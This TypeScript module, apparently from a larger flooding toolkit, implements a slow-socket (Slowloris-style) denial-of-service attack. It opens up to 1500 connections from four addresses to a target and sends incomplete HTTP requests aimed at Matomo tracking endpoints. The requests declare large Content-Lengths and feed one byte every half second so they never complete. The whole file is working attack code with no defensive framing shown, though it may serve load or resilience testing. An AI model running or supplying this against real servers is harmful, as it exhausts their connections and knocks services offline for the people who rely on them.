import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Flood } from '../flood.ts';
import { openSocket } from '../raw-socket.ts';

const BYTE_EVERY_MS = 500;
const HEADS = [
  'GET /tracking?idsite=1&rec=1 HTTP/1.1\r\nHost: x\r\nX-A: ',
  'POST /TrackingMCDT HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n',
  'POST /matomo.php HTTP/1.1\r\nHost: x\r\nContent-Length: 500000\r\n\r\n{"requests":["',
];

/** Until it is over, or the other side has enough. */
async function dripInto(socket: Socket, head: string, over: () => boolean): Promise<void> {
  const closed = new AbortController();
  socket.on('error', () => undefined);
  socket.on('close', () => closed.abort());
  socket.resume();
  socket.write(head);
  while (!closed.signal.aborted && !over()) {
    socket.write('a');
    await sleep(BYTE_EVERY_MS);
  }
  socket.destroy();
}

export const slowSockets: Flood = {
  name: 'slow-sockets',
  what: 'heads and bodies that come a byte at a time and never end',
  sockets: 1500,
  addresses: 4,
  run: async ({ target, answers, over }, index, address) => {
    while (!over()) {
      const socket = await openSocket(target.port, address);
      if (socket !== undefined) await dripInto(socket, HEADS[index % HEADS.length]!, over);
      answers.requests += 1;
      if (!over()) answers.closed += 1;
    }
  },
};
